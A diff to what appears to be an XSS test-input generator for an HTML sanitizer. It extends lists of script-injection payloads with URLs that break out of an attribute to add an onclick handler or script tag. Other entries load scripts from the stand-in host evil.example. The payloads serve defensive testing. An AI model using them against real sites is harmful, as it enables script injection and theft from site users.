@@ -22,7 +22,10 @@ TAGS = ["<script>{d}</script>", "<script src=//evil.example/x.js></script>", "<i
         "<marquee onstart={d}>", "<a href=//evil.example/ ping=//evil.example/>x</a>", "<audio src=//evil.example/x.mp3>"]
 ADDRESSES = ["javascript:{d}", "JaVaScRiPt:{d}", "java\tscript:{d}", " javascript:{d}", "&#106;avascript:{d}",
              "javascript&colon;{d}", "data:text/html,<script>{d}</script>", "vbscript:{d}", "//evil.example/x",
-             "\\\\evil.example\\x", "javascript://x%0A{d}", "blob:javascript:{d}"]
+             "\\\\evil.example\\x", "javascript://x%0A{d}", "blob:javascript:{d}",
+             # Addresses that may stand, with what would end the attribute they stand in.
+             "https://example.org/\"onclick=\"{d}", "https://example.org/'onclick='{d}", "https://example.org/&quot;onclick=&quot;{d}",
+             "https://example.org/?a=%22%3E%3Cscript%3E{d}"]
 BREAKS = ["{t}", "\"{t}", "'{t}", "\">{t}", "'>{t}", "--><!--{t}", "]]>{t}", "</title>{t}", "</textarea>{t}", "</script>{t}",
           "</style>{t}", "`{t}"]
 LONERS = ["\" onmouseover=\"{d}", "' onfocus='{d}' autofocus='", "\" style=\"background:url(//evil.example/x)", "{{{{{d}}}}}",
